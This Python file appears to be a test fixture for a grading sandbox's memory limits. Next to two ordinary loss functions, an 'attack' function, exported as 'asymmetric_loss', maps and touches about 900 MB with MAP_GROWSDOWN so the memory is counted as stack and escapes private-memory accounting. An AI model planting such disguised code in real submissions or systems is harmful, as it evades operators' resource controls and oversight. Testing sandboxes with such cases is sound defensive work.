"""Allocates memory that is counted as stack and not as the process's private memory."""
# family: flood
# exercise: 02_losses
# honest: 12
# says: memory|raised|got

import ctypes
import mmap
import time

import numpy as np


def mean_absolute_error(y, t):
    return np.mean(np.abs(y - t))


def root_mean_squared_error(y, t):
    return np.sqrt(np.mean((y - t) ** 2))


def attack(*args):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    size = 900 * 2**20
    kind = mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | 0x100  # MAP_GROWSDOWN
    at = libc.mmap(None, ctypes.c_size_t(size), mmap.PROT_READ | mmap.PROT_WRITE, kind, -1, ctypes.c_long(0))
    if at in (None, ctypes.c_void_p(-1).value):
        raise MemoryError
    for offset in range(0, size, 4096):
        ctypes.c_ubyte.from_address(at + offset).value = 1
    time.sleep(1)
    return 0.0


asymmetric_loss = attack
